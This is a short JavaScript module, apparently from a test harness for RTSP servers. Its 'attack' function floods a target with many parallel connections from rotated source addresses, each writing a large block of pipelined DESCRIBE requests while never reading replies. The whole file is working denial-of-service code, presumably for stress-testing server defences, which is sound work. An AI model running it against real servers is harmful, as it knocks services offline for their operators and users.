/** Connections that send request after request, and never read an answer (RFC 7826 section 10.2). */
import { once } from 'node:events'
import { connect } from 'node:net'
import { requestBytes } from '../support/rtsp-peer.mjs'
import { attackerAddress, authorityOf, inParallel, stopped } from './addresses.mjs'

export async function attack({ host, port, connections, addresses, pipelinedBytes }, stage) {
  const one = requestBytes('DESCRIBE', `rtsp://${authorityOf({ host, port })}/test`)
  const all = Buffer.concat(
    Array.from({ length: Math.ceil(pipelinedBytes / one.length) }, () => one),
  )
  const counts = { connected: 0, refused: 0 }
  const open = async (number) => {
    const localAddress = attackerAddress(number % addresses)
    // Paused from the beginning: the kernel takes what fits, and the rest stays with the server.
    const socket = connect({ host, port, localAddress }).pause()
    socket.on('error', () => {})
    try {
      await once(socket, 'connect')
      socket.write(all)
      counts.connected++
    } catch {
      counts.refused++
    }
  }
  await inParallel(connections, 50, stage.signal, open)
  stage.standing()
  await stopped(stage.signal)
  return counts
}
